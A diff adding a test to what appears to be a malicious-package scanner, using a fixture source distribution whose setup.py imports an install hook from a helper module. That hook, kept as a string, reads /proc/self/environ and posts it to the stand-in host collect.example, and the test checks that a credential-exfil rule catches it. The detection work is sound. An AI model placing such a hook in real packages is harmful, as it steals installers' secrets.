@@ -218,3 +218,34 @@ def test_a_shipped_file_that_install_code_hands_to_python_is_install_code(name: 
     rules, held = _rules(_hooked(call, **{name: BEACON}))
     assert "phone-home" in rules
     assert held
+
+
+HOOK_MODULE = """\
+from pathlib import Path
+from setuptools.command.install import install
+
+
+class Hook(install):
+    def __init__(self, dist):
+        super().__init__(dist)
+        self.blob = open(Path("/", "proc", "self", "environ")).read().encode()
+
+    def run(self):
+        import urllib.request
+        urllib.request.urlopen("https://collect.example/", data=self.blob)
+        install.run(self)
+"""
+
+
+def test_an_install_command_defined_in_a_module_setup_py_imports() -> None:
+    archive = sdist(
+        {
+            "PKG-INFO": pkg_info(),
+            "setup.py": "from setuptools import setup\nfrom build_tools import settings\nsetup(**settings)\n",
+            "build_tools/__init__.py": "from build_tools.hooks import Hook\nsettings = {'cmdclass': {'install': Hook}}\n",
+            "build_tools/hooks.py": HOOK_MODULE,
+        }
+    )
+    rules, held = _rules(archive)
+    assert "credential-exfil" in rules
+    assert held
